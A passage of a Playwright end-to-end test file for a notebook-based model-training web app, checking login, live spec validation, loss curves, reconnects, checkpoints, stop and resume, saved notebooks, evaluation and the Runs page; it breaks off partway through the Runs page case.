// tests/e2e/e2e.mjs — the page in a real browser against the real server.
//
// Starts `build/trainbook serve` on a free port with a fresh workspace (the
// server seeds examples/fashion-mnist.ipynb into it), drives Debian's
// chromium through playwright-core, and checks what a person would see:
// login, the workspace, the bundled example notebook, live validation,
// a real training run's curve and checkpoints, reload and reconnect with no
// missing point (the curve read as a series plus the live feed compared
// with GET /api/runs/<id>/events), stop, the saved .ipynb (validated by
// python3-nbformat), evaluation and the Evaluate action, the Runs page
// (table, filters, columns, CSV, parallel coordinates, groups, overlay
// with names), a run's page (spec, diff, name), an edit conflict, and
// notebook management, plus the newcomer bugs of issue 16. Screenshots go
// to tests/e2e/screenshots/. One PASS/FAIL line per case.
import { mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { BIN, SHOTS, e2ePlaces, randomToken, failureShot, cleanUp, freePort, startServer, apiClient, waitFor, allEvents, sleep, launchChromium, runSuite, noPageErrorsCase } from './lib.mjs';
import { fashionTestImages } from '../integration/images.mjs';

const TOKEN = randomToken();
const { work, workspace, serverLog } = e2ePlaces('');
const EXAMPLE = 'examples/fashion-mnist.ipynb';
const SHORT = 'e2e-short.ipynb';

const S = { pageErrors: [], csp: [] }; // state shared by the cases
let ctx = null;
let server = null;

const shortSpec = `# A short run for the end-to-end test: 60 steps, then the test evaluation.
data: {dataset: fashion-mnist, batch_size: 64}
model: [flatten, {linear: 32}, relu, {linear: 10}]
loss: cross_entropy
optimizer: {name: adam, lr: 1.0e-3}
train: {epochs: 1, max_steps: 60, seed: 0}
checkpoint: {every: 1, keep: 2}
`;

function lines(text) {
	const out = text.split('\n').map((l, i, a) => (i < a.length - 1 ? l + '\n' : l));
	if (out[out.length - 1] === '') out.pop();
	return out;
}

function assert(cond, msg) {
	if (!cond) throw new Error(msg);
}

function nbformatValidate(file) {
	try {
		execFileSync('/usr/bin/python3', ['-c', 'import sys, nbformat; nbformat.validate(nbformat.read(sys.argv[1], 4))', file], { stdio: 'pipe' });
		return '';
	} catch (e) {
		return String(e.stderr || e.message).trim().split('\n').slice(-2).join(' ');
	}
}

/* A full-page screenshot from the top (sticky bars would otherwise land mid-page). */
async function shot(page, name) {
	await page.evaluate(() => window.scrollTo(0, 0));
	await page.mouse.move(0, 0);
	await page.screenshot({ path: join(SHOTS, name), fullPage: true });
}

/*
 * What the page holds for a run: the seqs the live feed delivered (after
 * `start`, where the history read as series ended), the train-loss curve's
 * steps, chart points; `loading` while the series are still being read
 * (live events wait in a buffer until they are in).
 */
function pageRun(page, runId) {
	return page.evaluate((id) => {
		const tb = window.trainbook;
		const log = tb.feed.logOf(id);
		const view = [...tb.runViews].find((v) => v.runId === id);
		if (!log || !view) return null;
		const curve = view.curves.get(id, 'train/loss');
		const curves = view.curves.runs.get(id);
		return {
			loading: !curves || !!curves.buffer,
			start: log.start,
			seqs: log.events.map((e) => e.seq),
			lastSeq: log.lastSeq,
			contiguous: log.isContiguous() && log.dropped === 0,
			steps: curve ? curve.steps.slice() : [],
			exact: curve ? curve.counts.every((n) => n === 1) : true,
			chartPoints: view.charts.charts.loss.points,
			status: view.run.status,
			checkpoints: view.checkpoints.length,
		};
	}, runId);
}

/*
 * The page's view of a run must equal the server's record up to the page's
 * last seq: every event the feed delivered is the server's, in order, and
 * the curve (series read at load + live points) has every stored train-loss
 * step once (steps a resumed run redid: the later training's).
 */
async function assertSameAsServer(api, runId, got) {
	assert(got.contiguous, `page's seqs are not ${got.start + 1}..${got.lastSeq}: ${JSON.stringify(got.seqs.slice(0, 20))}…`);
	const events = await allEvents(api, runId, got.lastSeq);
	const serverSeqs = events.map((e) => e.seq).filter((q) => q > got.start);
	assert(serverSeqs.length === got.seqs.length, `page has ${got.seqs.length} live events, server has ${serverSeqs.length} in ${got.start + 1}..${got.lastSeq}`);
	for (let i = 0; i < serverSeqs.length; i++) assert(serverSeqs[i] === got.seqs[i], `seq mismatch at ${i}: page ${got.seqs[i]}, server ${serverSeqs[i]}`);
	const serverSteps = [];
	for (const e of events) {
		if (e.event.type !== 'metric' || (e.event.split || 'train') !== 'train' || !e.event.values || e.event.values.loss === undefined) continue;
		while (serverSteps.length && serverSteps[serverSteps.length - 1] >= e.event.step) serverSteps.pop();
		serverSteps.push(e.event.step);
	}
	assert(got.exact, 'the curve of a short run is not at full resolution');
	assert(JSON.stringify(serverSteps) === JSON.stringify(got.steps), `train-loss steps differ: page ${got.steps.length} points, server ${serverSteps.length}`);
	return { events: events.length, steps: serverSteps.length };
}

async function openNotebook(page, path) {
	await page.goto(S.base + '#/');
	await page.locator(`tr[data-path="${path}"] a.nb-link`).click();
	await page.waitForSelector('.cells .cell');
	await waitFor(() => page.evaluate(() => window.trainbook.page && window.trainbook.page.state === 'saved'), { what: 'the notebook to open' });
}

async function waitSaved(page, what) {
	await waitFor(() => page.evaluate(() => {
		const p = window.trainbook.page;
		return p && p.state === 'saved' && !p.dirty && !p.saving;
	}), { timeout: 20000, what: what || 'the notebook to be saved' });
}

function checkSavedNotebook(path, runId) {
	const file = join(workspace, path);
	const why = nbformatValidate(file);
	assert(why === '', `${path} does not validate with nbformat: ${why}`);
	const nb = JSON.parse(readFileSync(file, 'utf8'));
	const cell = nb.cells.find((c) => c.metadata && c.metadata.trainbook && c.metadata.trainbook.run_id === runId);
	assert(cell, `no cell of ${path} has metadata.trainbook.run_id = ${runId}`);
	assert(cell.cell_type === 'code' && cell.metadata.trainbook.kind === 'run', 'the run cell is not a trainbook run cell');
	const out = (cell.outputs || []).find((o) => o.output_type === 'display_data');
	assert(out, 'the run cell has no display_data output');
	const png = Buffer.from(out.data['image/png'] || '', 'base64');
	assert(png.length > 1000 && png.subarray(1, 4).toString() === 'PNG', `image/png is not a PNG (${png.length} bytes)`);
	const text = [].concat(out.data['text/plain']).join('');
	assert(text.includes(runId), `text/plain does not name the run: ${text}`);
	return text;
}

const cases = [
	{
		name: 'server starts',
		fn: async () => {
			const port = await freePort();
			server = await startServer({ bin: BIN, port, workspace, token: TOKEN, logPath: serverLog });
			S.base = server.base;
			S.api = apiClient(S.base, TOKEN);
			const profile = join(work, 'chromium-profile');
			ctx = await launchChromium(profile);
			S.page = ctx.pages()[0] || (await ctx.newPage());
			S.page.on('pageerror', (e) => S.pageErrors.push(e.message));
			// The page must work under the server's Content-Security-Policy: any
			// violation (an inline style or script, a foreign image or socket)
			// fails the case that caused it. Chromium reports each one on the console.
			ctx.on('console', (m) => {
				if (/Content[ -]Security[ -]Policy/i.test(m.text())) S.csp.push(m.text().slice(0, 300));
			});
			// a "leave the page?" prompt must not hang the test; other native dialogs are not expected
			S.page.on('dialog', (d) => (d.type() === 'beforeunload' ? d.accept() : d.dismiss()));
		},
	},
	{
		name: 'without the cookie the server\'s login page takes the token and opens the workspace',
		needs: ['server starts'],
		fn: async () => {
			const page = S.page;
			await page.goto(S.base);
			const input = page.locator('input[name=token]');
			await input.waitFor({ timeout: 15000 });
			// newcomer bug 12: the login page had no favicon
			const icon = await page.locator('link[rel=icon]').getAttribute('href');
			assert(icon === 'favicon.svg', `login page icon: ${icon}`);
			await input.fill(TOKEN);
			await Promise.all([page.waitForNavigation({ timeout: 15000 }), input.press('Enter')]);
			try {
				await page.waitForSelector('h1:has-text("Workspace")', { timeout: 15000 });
			} catch {
				const body = (await page.locator('body').innerText()).slice(0, 160).replace(/\s+/g, ' ');
				throw new Error(`after posting the token the browser shows ${page.url()}: ${body}`);
			}
			const cookies = await ctx.cookies(S.base);
			// Named by the port: two servers on one host keep separate logins.
			const want = `trainbook_token_${new URL(S.base).port}`;
			assert(cookies.some((c) => c.name === want), `no ${want} cookie after logging in`);
		},
	},
	{
		name: 'token URL opens the workspace with the example notebook and the system panel',
		needs: ['server starts'],
		fn: async () => {
			const page = S.page;
			await page.goto(S.base + '?token=' + TOKEN);
			await page.waitForSelector(`tr[data-path="${EXAMPLE}"]`, { timeout: 15000 });
			assert(!page.url().includes('token='), `the token stays in the address bar: ${page.url()}`);
			const sys = await S.api.get('api/system');
			if (sys.gpus && sys.gpus.length) await page.waitForSelector('.system-panel .gpu h4');
			else await page.waitForSelector('.system-panel .gpu-note:has-text("No GPU")');
			if (!(sys.gpus && sys.gpus.length)) {
				// newcomer bug 12: the note says so in words, not with a library's file name
				const note = await page.locator('.system-panel .gpu-note').first().textContent();
				assert(!/\.so|libnvidia/.test(note) && (!/driver/.test(sys.gpu_note) || note.includes('no NVIDIA driver found')), `GPU note: ${note}`);
			}
			await page.waitForSelector('.conn[data-state=open]');
		},
	},
	{
		name: 'the bundled example notebook opens with a model summary from the server',
		needs: ['token URL opens the workspace with the example notebook and the system panel'],
		fn: async () => {
			const page = S.page;
			await openNotebook(page, EXAMPLE);
			const kinds = await page.$$eval('.cells > .cell', (els) => els.map((e) => (e.classList.contains('run-cell') ? 'run' : e.classList.contains('markdown-cell') ? 'markdown' : 'other')));
			assert(JSON.stringify(kinds) === JSON.stringify(['markdown', 'run', 'markdown', 'run']), `cells: ${kinds}`);
			await page.waitForSelector('.markdown-cell h1:has-text("Fashion-MNIST")');
			const nb = JSON.parse(readFileSync(join(workspace, EXAMPLE), 'utf8'));
			S.mlpCell = nb.cells.find((c) => c.metadata.trainbook && c.metadata.trainbook.kind === 'run').id;
			S.mlpSource = [].concat(nb.cells.find((c) => c.id === S.mlpCell).source).join('');
			const v = await S.api.post('api/validate', { spec: S.mlpSource });
			assert(v.ok, `the server says the example's first cell is invalid: ${JSON.stringify(v.errors)}`);
			const want = v.total_params.toLocaleString('en-US');
			const cell = page.locator(`.run-cell[data-cell-id="${S.mlpCell}"]`);
			await cell.locator(`.model-summary:has-text("${want} parameters")`).waitFor({ timeout: 15000 });
			const rows = await cell.locator('table.layers tbody tr').count();
			assert(rows === v.layers.length, `summary shows ${rows} layers, the server lists ${v.layers.length}`);
		},
	},
	{
		name: 'a spec error is marked at its line while typing',
		needs: ['the bundled example notebook opens with a model summary from the server'],
		fn: async () => {
			const page = S.page;
			const cell = page.locator(`.run-cell[data-cell-id="${S.mlpCell}"]`);
			const lossLine = cell.locator('.cm-line', { hasText: 'loss: cross_entropy' });
			await lossLine.click();
			await page.keyboard.press('End');
			await page.keyboard.type('y');
			const mark = cell.locator('.cm-lintRange-error');
			await mark.first().waitFor({ timeout: 10000 });
			const marked = await cell.evaluate((el) => {
				const ls = [...el.querySelectorAll('.cm-content .cm-line')];
				return ls.findIndex((l) => l.querySelector('.cm-lintRange-error')) + 1;
			});
			const text = await page.evaluate((id) => window.trainbook.page.cells.find((c) => c.cell.id === id).cell.source, S.mlpCell);
			const expectLine = text.split('\n').findIndex((l) => l.startsWith('loss:')) + 1;
			const v = await S.api.post('api/validate', { spec: text });
			assert(!v.ok, 'the server accepted the broken spec');
			assert(v.errors[0].line === expectLine, `the server puts the error at line ${v.errors[0].line}, the loss is on line ${expectLine}`);
			assert(marked === expectLine, `the page marks line ${marked}, the error is on line ${expectLine}`);
			await cell.locator(`.spec-errors li:has-text("line ${expectLine}")`).waitFor({ timeout: 5000 });
			await page.keyboard.press('Backspace');
			await waitFor(async () => (await mark.count()) === 0, { timeout: 10000, what: 'the error mark to go after fixing the spec' });
			await cell.locator('table.layers').waitFor({ timeout: 10000 });
			await page.keyboard.press('Escape');
			await waitSaved(page);
		},
	},
	{
		name: 'running the Fashion-MNIST cell draws a growing loss curve',
		needs: ['the bundled example notebook opens with a model summary from the server'],
		fn: async () => {
			const page = S.page;
			const cell = page.locator(`.run-cell[data-cell-id="${S.mlpCell}"]`);
			await cell.locator('button[aria-label="run this cell"]').click();
			const view = cell.locator('.run-view');
			await view.waitFor({ timeout: 15000 });
			S.runId = await view.getAttribute('data-run');
			const run = (await S.api.get(`api/runs/${S.runId}`)).run;
			assert(run.notebook === EXAMPLE && run.cell === S.mlpCell, `the run is not tied to the cell: ${run.notebook} / ${run.cell}`);
			await cell.locator('.run-status .badge:has-text("running")').waitFor({ timeout: 60000 });
			const first = await waitFor(async () => {
				const r = await pageRun(page, S.runId);
				return r && r.chartPoints >= 3 ? r : null;
			}, { timeout: 90000, what: 'loss points on the chart' });
			await cell.locator('figure[data-chart=loss] canvas').first().waitFor();
			const later = await waitFor(async () => {
				const r = await pageRun(page, S.runId);
				return r && r.chartPoints > first.chartPoints + 2 ? r : null;
			}, { timeout: 60000, what: 'the loss chart to gain points' });
			assert(later.steps.every((s, i) => i === 0 || s > later.steps[i - 1]), 'train steps are not increasing');
			const progress = await cell.locator('.progress-text').textContent();
			assert(/step [\d,]+ \/ [\d,]+/.test(progress), `progress text: ${progress}`);
		},
	},
	{
		name: 'reloading mid-run continues the curve with no gap',
		needs: ['running the Fashion-MNIST cell draws a growing loss curve'],
		fn: async () => {
			const page = S.page;
			await waitSaved(page, 'the run id to be saved in the notebook');
			const before = await pageRun(page, S.runId);
			await page.reload();
			await page.waitForSelector(`.run-view[data-run="${S.runId}"]`, { timeout: 15000 });
			const after = await waitFor(async () => {
				const r = await pageRun(page, S.runId);
				/* live events buffer while the series load: wait for both */
				return r && !r.loading && r.lastSeq > before.lastSeq + 3 ? r : null;
			}, { timeout: 60000, what: 'the series and new events after the reload' });
			assert(after.status === 'running', `run is ${after.status} after the reload`);
			// the history came as a series, not as a replay of every event over the WebSocket
			assert(after.start >= before.lastSeq, `after the reload the feed replayed from seq ${after.start}`);
			const n = await assertSameAsServer(S.api, S.runId, after);
			assert(n.steps >= before.steps.length, 'fewer points after the reload than before');
		},
	},
	{
		name: 'a dropped connection reconnects and resumes the feed from the last seq',
		needs: ['reloading mid-run continues the curve with no gap'],
		fn: async () => {
			const page = S.page;
			const before = await pageRun(page, S.runId);
			const opens = await page.evaluate(() => {
				const f = window.trainbook.feed;
				const n = f.opens;
				f.ws.close();
				return n;
			});
			await page.waitForSelector('.conn[data-state=open] .conn-text:has-text("resumed")', { timeout: 20000 });
			assert((await page.evaluate(() => window.trainbook.feed.opens)) === opens + 1, 'the feed did not reconnect exactly once');
			const after = await waitFor(async () => {
				const r = await pageRun(page, S.runId);
				return r && r.lastSeq > before.lastSeq + 3 ? r : null;
			}, { timeout: 60000, what: 'events after reconnecting' });
			await assertSameAsServer(S.api, S.runId, after);
		},
	},
	{
		name: 'a checkpoint appears while training',
		needs: ['running the Fashion-MNIST cell draws a growing loss curve'],
		fn: async () => {
			const page = S.page;
			const cell = page.locator(`.run-cell[data-cell-id="${S.mlpCell}"]`);
			// zoom into the loss curve: the zoom stays while new points arrive
			const zoom = await page.evaluate((id) => {
				const view = [...window.trainbook.runViews].find((v) => v.runId === id);
				const chart = view.charts.charts.loss;
				const x = chart.data.x;
				const range = [x[0], x[Math.max(1, Math.floor(x.length / 2))]];
				chart.zoomTo(range);
				chart.onZoom(range);
				return { range, points: chart.points };
			}, S.runId);
			const item = cell.locator('li.ckpt').first();
			await item.waitFor({ timeout: 240000 });
			const file = await item.getAttribute('data-file');
			const st = await pageRun(page, S.runId);
			assert(st.status === 'running', `the run ended (${st.status}) before this check`);
			// the checkpoint may be listed at once: wait for points to arrive under the zoom
			const kept = await waitFor(() => page.evaluate(({ id, before }) => {
				const view = [...window.trainbook.runViews].find((v) => v.runId === id);
				const chart = view.charts.charts.loss;
				if (chart.points <= before) return null;
				const out = { zoom: chart.zoom, min: chart.u.scales.x.min, max: chart.u.scales.x.max, points: chart.points };
				chart.zoomTo(null);
				chart.onZoom(null);
				return out;
			}, { id: S.runId, before: zoom.points }), { timeout: 30000, what: `new points while zoomed (${zoom.points} so far)` });
			assert(kept.zoom && kept.min === zoom.range[0] && kept.max === zoom.range[1], `the zoom moved while points arrived: ${JSON.stringify(kept)} vs ${JSON.stringify(zoom.range)}`);
			const href = await item.locator('a', { hasText: 'Download' }).getAttribute('href');
			assert(href && !href.startsWith('/') && !/^https?:/.test(href.replace(S.base, '')), `download link is not under the base: ${href}`);
			const r = await S.api.raw(`api/runs/${S.runId}/checkpoints/${encodeURIComponent(file)}`);
			assert(r.ok, `GET checkpoint ${file}: HTTP ${r.status}`);
		},
	},
	{
		name: 'Stop ends the run as stopped',
		needs: ['running the Fashion-MNIST cell draws a growing loss curve'],
		fn: async () => {
			const page = S.page;
			const cell = page.locator(`.run-cell[data-cell-id="${S.mlpCell}"]`);
			await cell.locator(`button[aria-label="stop run ${S.runId}"]`).click();
			// "Stopping…" while the worker finishes its step; a run whose stopped status
			// arrives before the answer to the click has nothing left to say it for
			const stopping = page.locator('.toast', { hasText: 'Stopping' });
			const stoppedBadge = cell.locator('.run-status .badge:has-text("stopped")');
			await waitFor(async () => (await stopping.count()) > 0 || (await stoppedBadge.count()) > 0,
				{ timeout: 5000, what: 'a Stopping toast, or the run stopped already' });
			const refused = page.locator('.toast.error', { hasText: 'Cannot stop' });
			if (await refused.count()) assert(false, await refused.first().textContent());
			await stoppedBadge.waitFor({ timeout: 120000 });
			const run = (await S.api.get(`api/runs/${S.runId}`)).run;
			assert(run.status === 'stopped', `server says ${run.status}`);
			// newcomer bug 12: "Stopping…" goes once the run has stopped
			await waitFor(async () => (await stopping.count()) === 0, { timeout: 1500, what: 'the Stopping toast to go' });
			await cell.locator(`button[aria-label="resume run ${S.runId}"]`).waitFor();
			const got = await pageRun(page, S.runId);
			await assertSameAsServer(S.api, S.runId, got);
		},
	},
	{
		name: 'the saved example notebook validates with nbformat and stores the run output',
		needs: ['Stop ends the run as stopped'],
		fn: async () => {
			await waitSaved(S.page, 'the stopped run to be saved');
			const text = checkSavedNotebook(EXAMPLE, S.runId);
			assert(text.includes('stopped'), `summary does not say stopped: ${text}`);
			await shot(S.page, 'notebook-stopped.png');
		},
	},
	{
		name: 'Resume continues the stopped run from its checkpoint, on the same curve',
		needs: ['Stop ends the run as stopped'],
		fn: async () => {
			const page = S.page;
			const cell = page.locator(`.run-cell[data-cell-id="${S.mlpCell}"]`);
			const before = await pageRun(page, S.runId);
			const lastStep = before.steps[before.steps.length - 1];
			await cell.locator(`button[aria-label="resume run ${S.runId}"]`).click();
			await cell.locator('.run-status .badge:has-text("running")').waitFor({ timeout: 60000 });
			const after = await waitFor(async () => {
				const r = await pageRun(page, S.runId);
				return r && r.steps.length > before.steps.length + 2 ? r : null;
			}, { timeout: 60000, what: 'new points after resuming' });
			const resumed = after.steps.slice(before.steps.length);
			assert(resumed[0] > lastStep - 20 && resumed[0] <= lastStep + 50, `resumed at step ${resumed[0]}, stopped at ${lastStep}`);
			await assertSameAsServer(S.api, S.runId, after);
			await cell.locator(`button[aria-label="stop run ${S.runId}"]`).click();
			await cell.locator('.run-status .badge:has-text("stopped")').waitFor({ timeout: 120000 });
			await waitSaved(page, 'the stopped run to be saved again');
		},
	},
	{
		name: 'an uploaded notebook runs to completion with evaluation and checkpoints',
		needs: ['server starts'],
		fn: async () => {
			const page = S.page;
			const nb = {
				cells: [
					{ cell_type: 'markdown', id: 'intro', metadata: {}, source: lines('# Short run\nUploaded by the end-to-end test.') },
					{ cell_type: 'code', id: 'short', metadata: { trainbook: { kind: 'run' } }, source: lines(shortSpec), execution_count: null, outputs: [] },
				],
				metadata: {}, nbformat: 4, nbformat_minor: 5,
			};
			const file = join(work, SHORT);
			writeFileSync(file, JSON.stringify(nb));
			await page.goto(S.base + '#/');
			await page.waitForSelector('table.notebooks tbody tr');
			await page.setInputFiles('input[type=file]', file);
			await page.waitForSelector(`tr[data-path="${SHORT}"]`, { timeout: 15000 });
			await openNotebook(page, SHORT);
			const cell = page.locator('.run-cell[data-cell-id="short"]');
			await cell.locator('table.layers').waitFor({ timeout: 15000 });
			await cell.locator('.cm-content').click();
			await page.keyboard.press('Shift+Enter'); // runs the cell (and adds a new cell below, as Jupyter does)
			const view = cell.locator('.run-view');
			await view.waitFor({ timeout: 15000 });
			S.shortRun = await view.getAttribute('data-run');
			await cell.locator('.run-status .badge:has-text("completed")').waitFor({ timeout: 240000 });
			await cell.locator('table.confusion').waitFor({ timeout: 15000 });
			const samples = await cell.locator('figure.sample').count();
			assert(samples > 0, 'no sample predictions drawn');
			const evs = await allEvents(S.api, S.shortRun);
			const ev = evs.find((e) => e.event.type === 'evaluation');
			assert(ev, 'the server has no evaluation event for the run');
			const cells = await cell.locator('table.confusion tbody td').count();
			assert(cells === ev.event.confusion.length ** 2, `confusion table has ${cells} cells for ${ev.event.confusion.length} classes`);
			assert(samples === (ev.event.samples || []).length, `${samples} samples drawn, event has ${(ev.event.samples || []).length}`);
			await cell.locator('li.ckpt').first().waitFor({ timeout: 15000 });
			// newcomer bug 2: Evaluate is offered on every checkpoint
			await waitFor(async () => {
				const n = await cell.locator('li.ckpt').count();
				return n > 0 && (await cell.locator('li.ckpt button', { hasText: 'Evaluate' }).count()) === n;
			}, { timeout: 15000, what: 'an Evaluate button on every checkpoint' });
			// newcomer bug 7: max_steps 60 of 938 steps per epoch is epoch 0.06, not "epoch 0 / 1"
			const progress = await cell.locator('.progress-text').textContent();
			assert(/step 60 \/ 60 · epoch 0\.06 \/ 1/.test(progress), `progress text: ${progress}`);
			const heading = await cell.locator('.run-eval h4').first().textContent();
			assert(/at step 60 \(epoch 0\.06\)/.test(heading), `evaluation heading: ${heading}`);
			const got = await pageRun(page, S.shortRun);
			await assertSameAsServer(S.api, S.shortRun, got);
			await waitSaved(page);
			checkSavedNotebook(SHORT, S.shortRun);
			await shot(page, 'notebook.png');
		},
	},
	{
		name: 'reopening a notebook re-attaches its runs',
		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints'],
		fn: async () => {
			const page = S.page;
			await openNotebook(page, SHORT);
			const cell = page.locator('.run-cell[data-cell-id="short"]');
			await cell.locator(`.run-view[data-run="${S.shortRun}"] .badge:has-text("completed")`).waitFor({ timeout: 15000 });
			await cell.locator('table.confusion').waitFor({ timeout: 15000 });
			await page.emulateMedia({ colorScheme: 'dark' });
			await sleep(300);
			await shot(page, 'notebook-dark.png');
			await page.emulateMedia({ colorScheme: 'light' });
			const got = await waitFor(async () => {
				const r = await pageRun(page, S.shortRun);
				const last = (await S.api.get(`api/runs/${S.shortRun}`)).run.last_seq;
				return r && !r.loading && r.lastSeq === last ? r : null;
			}, { timeout: 15000, what: 'the whole run replayed' });
			await assertSameAsServer(S.api, S.shortRun, got);
		},
	},
	{
		name: 'the runs page overlays the curves of two runs with a legend',
		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints', 'running the Fashion-MNIST cell draws a growing loss curve'],
		fn: async () => {
			const page = S.page;
			await page.goto(S.base + `#/runs?ids=${S.runId},${S.shortRun}`);
			const chart = page.locator('figure[data-chart="train/loss"]');
			await chart.waitFor({ timeout: 15000 });
			const names = {};
			for (const id of [S.runId, S.shortRun]) names[id] = (await S.api.get(`api/runs/${id}`)).run.name;
			assert(names[S.runId] === 'fashion-mnist · mlp', `the example's run is named ${names[S.runId]}`);
			await page.locator('.run-legend .legend-item', { hasText: S.runId }).waitFor();
			await page.locator('.run-legend .legend-item', { hasText: S.shortRun }).waitFor();
			const labels = await waitFor(async () => {
				const l = await chart.locator('.chart-legend .legend-label').allTextContents();
				return l.length === 2 ? l : null;
			}, { timeout: 15000, what: 'two curves in the train loss chart' });
			// the legend uses names; the tooltip adds the id
			assert(labels.includes(names[S.runId]) && labels.includes(names[S.shortRun]), `legend: ${labels}`);
			const tips = await chart.locator('.chart-legend .legend-item').evaluateAll((els) => els.map((e) => e.title));
			assert(tips.some((t) => t.includes(S.runId)), `tooltips: ${tips}`);
			await shot(page, 'runs.png');
		},
	},
	{
		name: 'Evaluate scores a checkpoint in its own block; the run and its summary stay (newcomer bug 2)',
		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints'],
		fn: async () => {
			const page = S.page;
			await openNotebook(page, SHORT);
			const cell = page.locator('.run-cell[data-cell-id="short"]');
			const item = cell.locator('li.ckpt').first();
			await item.waitFor({ timeout: 15000 });
			const file = await item.getAttribute('data-file');
			const before = (await allEvents(S.api, S.shortRun)).filter((e) => e.event.type === 'summary').length;
			const took = await cell.locator('.progress-text').textContent();
			await item.locator('button', { hasText: 'Evaluate' }).click();
			const block = cell.locator(`.check-eval[data-checkpoint="${file}"]`);
			await block.waitFor({ timeout: 120000 });
			await block.locator('table.confusion').waitFor();
			const h4 = await block.locator('h4').textContent();
			assert(h4.includes(`Evaluation of ${file}`) && /accuracy/.test(h4), `block heading: ${h4}`);
			await cell.locator('.run-status .badge:has-text("completed")').waitFor({ timeout: 60000 });
			const after = (await allEvents(S.api, S.shortRun)).filter((e) => e.event.type === 'summary').length;
			assert(after === before, `the evaluation wrote a summary (${before} → ${after})`);
			assert((await S.api.get(`api/runs/${S.shortRun}`)).run.status === 'completed', 'the run is not completed after the evaluation');
			// the training's own evaluation block is still there, apart from this one
			await cell.locator('.run-eval .evaluation').first().waitFor();
			assert(!/0 images\/s/.test(await cell.locator('.progress-text').textContent()), 'the header shows the evaluation as the training');
			assert(took.startsWith('step 60'), took);
			await waitSaved(page);
		},
	},
	{
		name: 'at 800 px wide a run view fits the page (newcomer bug 4)',
		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints'],
		fn: async () => {
			const page = S.page;
			await page.setViewportSize({ width: 800, height: 900 });
			try {
				await openNotebook(page, SHORT);
				await page.locator('.run-cell[data-cell-id="short"] table.confusion').first().waitFor({ timeout: 15000 });
				await sleep(500);
				const width = await page.evaluate(() => document.documentElement.scrollWidth);
				await shot(page, 'notebook-800px.png');
				assert(width <= 800, `the page is ${width} px wide at 800`);
			} finally {
				await page.setViewportSize({ width: 1360, height: 900 });
			}
		},
	},
	{
		name: 'Shift+Enter on an invalid last cell adds and saves no empty cell (newcomer bug 9)',
		needs: ['server starts'],
		fn: async () => {
			const page = S.page;
			const path = 'e2e-invalid-last.ipynb';
			await S.api.post('api/notebooks', { path, content: { cells: [
				{ cell_type: 'code', id: 'bad', metadata: { trainbook: { kind: 'run' } }, execution_count: null, outputs: [], source: 'data: {dataset: synthetic}\nmodel: [flatten, {linaer: 4}]\n' },
			], metadata: {}, nbformat: 4, nbformat_minor: 5 } });
			await openNotebook(page, path);
			const cell = page.locator('.run-cell[data-cell-id="bad"]');
			await cell.locator('.spec-errors li').first().waitFor({ timeout: 15000 });
			await cell.locator('.cm-content').click();
			await page.keyboard.press('Shift+Enter');
			await page.locator('.toast.error', { hasText: 'Cannot start the run' }).waitFor({ timeout: 15000 });
			await sleep(2500); // longer than the autosave delay
			assert((await page.locator('.cells > .cell').count()) === 1, 'a cell was appended after the refused run');
			await waitSaved(page);
			const saved = JSON.parse(readFileSync(join(workspace, path), 'utf8'));
			assert(saved.cells.length === 1, `the saved notebook has ${saved.cells.length} cells`);
		},
	},
	{
		name: 'a queued run says how many runs are ahead of it, never "null" (newcomer bug 1)',
		needs: ['server starts'],
		fn: async () => {
			const page = S.page;
			const long = 'data: {dataset: synthetic, shape: [1,8,8], classes: 4, train_size: 8192, test_size: 64, batch_size: 32}\nmodel: [flatten, {linear: 64}, relu, {linear: 4}]\ntrain: {epochs: 200}\n';
			const a = (await S.api.post('api/runs', { spec: long })).run.id;
			const b = (await S.api.post('api/runs', { spec: long })).run.id;
			try {
				await waitFor(async () => (await S.api.get(`api/runs/${a}`)).run.status === 'running', { timeout: 60000, what: `${a} to run` });
				// queue_ahead is the scheduler's place: null until its pass has placed the run.
				const queued = await waitFor(async () => {
					const r = (await S.api.get(`api/runs/${b}`)).run;
					return r.status !== 'queued' || r.queue_ahead !== null ? r : false;
				}, { what: `${b} placed in the queue` });
				assert(queued.status === 'queued', `${b} is ${queued.status}`);
				await page.goto(S.base + '#/run/' + b);
				const head = page.locator('.run-head');
				await head.locator('.progress-text', { hasText: 'queued' }).waitFor({ timeout: 15000 });
				const text = await head.textContent();
				assert(!/null|undefined/.test(text), `header: ${text}`);
				const want = queued.queue_ahead === 0 ? 'queued — next to start' : `queued — ${queued.queue_ahead} run`;
				assert(text.includes(want), `header says "${text}", expected "${want}"`);
			} finally {
				await S.api.post(`api/runs/${b}/stop`, {});
				await S.api.post(`api/runs/${a}/stop`, {});
				await waitFor(async () => (await S.api.get(`api/runs/${a}`)).run.status === 'stopped', { timeout: 60000, what: `${a} to stop` });
			}
		},
	},
	{
		name: 'the Runs page: a table of what differs, filters, columns, CSV, parallel coordinates, a grouped band',
		needs: ['server starts'],
		fn: async () => {
			const page = S.page;
			const spec = (lr, seed) => `data: {dataset: synthetic, shape: [1,8,8], classes: 4, train_size: 512, test_size: 64, batch_size: 16}\nmodel: [flatten, {linear: 16}, relu, {linear: 4}]\noptimizer: {name: adam, lr: ${lr}}\ntrain: {epochs: 2, seed: ${seed}, log_every: 1}\n`;
			const ids = [];
			for (const lr of ['1.0e-3', '1.0e-2']) for (const seed of [0, 1, 2]) ids.push((await S.api.post('api/runs', { spec: spec(lr, seed), name: `sweep lr ${lr} seed ${seed}` })).run.id);
			S.sweep = ids;
			for (const id of ids) await waitFor(async () => (await S.api.get(`api/runs/${id}`)).run.status === 'completed', { timeout: 120000, what: `${id} to complete` });
			for (const [i, id] of ids.entries()) await S.api.call('PATCH', `api/runs/${id}`, { tags: [i < 3 ? 'low-lr' : 'high-lr', 'sweep'] });
			await page.goto(S.base + '#/runs?ids=' + ids.join(','));
			const table = page.locator('table.hparams');
			await table.locator(`tr[data-run="${ids[0]}"]`).waitFor({ timeout: 15000 });
			// the columns are what differs among the listed runs, lr among them
			const heads = await table.locator('thead th').allTextContents();
			assert(heads.some((t) => t.startsWith('optimizer.lr')) && heads.some((t) => t.startsWith('train.seed')), `columns: ${heads}`);
			// filter by tag and by text
			await page.locator('select[aria-label="tag"]').selectOption('high-lr');
			await waitFor(async () => (await table.locator('tbody tr[data-run]').count()) === 3, { what: 'three high-lr rows' });
			await page.locator('select[aria-label="tag"]').selectOption('');
